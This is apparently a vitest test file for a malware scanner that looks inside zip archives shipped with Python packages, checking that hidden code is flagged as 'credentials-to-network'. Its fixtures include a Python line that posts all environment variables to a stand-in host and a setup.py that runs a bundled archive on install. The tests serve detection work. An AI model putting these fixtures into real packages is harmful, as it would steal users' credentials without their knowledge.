import { expect, test } from 'vitest';
import { programIn } from '../../src/analysis/program-in-zip.js';
import { analysedTree } from './analysed-tree.js';
import { writeZip } from '../support/archives/zip-writer.js';

const STEALS = 'import os, requests\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\n';
const zip = (files: Readonly<Record<string, string>>): Buffer => writeZip(Object.entries(files).map(([name, text]) => ({ name, data: Buffer.from(text) })));
const SETUP = 'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "tool.pyz")])\nsetup(name="plot", version="1.0")\n';

async function told(tool: Buffer): Promise<{ readonly rules: readonly string[]; readonly gaps: readonly string[] }> {
  const { findings, gaps } = await analysedTree({ 'setup.py': Buffer.from(SETUP), 'tool.pyz': tool });
  return { rules: findings.filter(({ severity }) => severity === 'critical').map(({ rule, file }) => `${rule} ${file}`), gaps: gaps.map(({ what }) => what) };
}

test('a zip that setup.py has Python start is read, and leaves no gap', async () => {
  expect(await told(zip({ '__main__.py': 'print("leaf")\n', 'leaf.py': 'X = 1\n', 'LICENSE': 'free' }))).toEqual({ rules: [], gaps: [] });
});

test('what its main module does is judged like a script that setup.py starts', async () => {
  expect((await told(zip({ '__main__.py': STEALS }))).rules).toContain('credentials-to-network tool.pyz');
});

test('what another module in it does when it is imported is judged the same', async () => {
  expect((await told(zip({ '__main__.py': 'import leaf\n', 'leaf.py': STEALS }))).rules).toContain('credentials-to-network tool.pyz');
});

test.each([
  ['machine code', { '__main__.py': 'import leaf\n', 'leaf.so': 'x' }],
  ['compiled Python', { '__main__.py': 'import leaf\n', 'leaf.pyc': 'x' }],
  ['another archive', { '__main__.py': 'import leaf\n', 'more.zip': 'x' }],
  ['no module', { 'leaf.txt': 'x' }],
])('a zip with %s stays a gap', async (_, files) => {
  expect((await told(zip(files))).gaps).toEqual(['tool.pyz']);
});

test('modules in a zip that is put on sys.path are read like a program in one', async () => {
  const path = 'import os, sys\nsys.path.insert(0, sys.path[0] + "/leaves.zip")\nimport leaf\n';
  const { findings, gaps } = await analysedTree({ 'garden/__init__.py': Buffer.from(path), 'garden/leaves.zip': zip({ 'leaf/': '', 'leaf/__init__.py': STEALS }) });
  expect(gaps).toEqual([]);
  expect(findings.filter(({ severity }) => severity === 'critical').map(({ rule, file }) => `${rule} ${file}`)).toContain('credentials-to-network garden/leaves.zip');
});

test('a zip that cannot be read whole is told as what it is', async () => {
  const { gaps } = await analysedTree({ 'setup.py': Buffer.from(SETUP), 'tool.pyz': zip({ 'leaf.py': 'X = 1\n', '__main__.py': 'import leaf\n', 'leaf.so': 'x' }) });
  expect(gaps).toMatchObject([{ kind: 'data', what: 'tool.pyz', why: expect.stringMatching(/^is an archive of modules that Python is given to run/) }]);
});

test('a program in a zip that no reader would take for text is judged where a module runs it', async () => {
  const tool = writeZip([{ name: '__main__.py', data: Buffer.from(STEALS) }, { name: 'leaf.png', data: Buffer.from([0xff, 0xfe, 0]) }]);
  const { findings } = await analysedTree({ 'garden/__init__.py': Buffer.from('import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "extra.dat"))\n'), 'garden/extra.dat': tool });
  expect(findings.map(({ rule, file }) => `${rule} ${file}`)).toContain('credentials-to-network garden/extra.dat');
});

test('what is no zip, or a broken one, is left as it is', async () => {
  expect(await programIn(Buffer.from('print(1)\n'))).toBeNull();
  expect(await programIn(zip({ '__main__.py': 'print(1)\n' }).subarray(0, 40))).toBeNull();
});
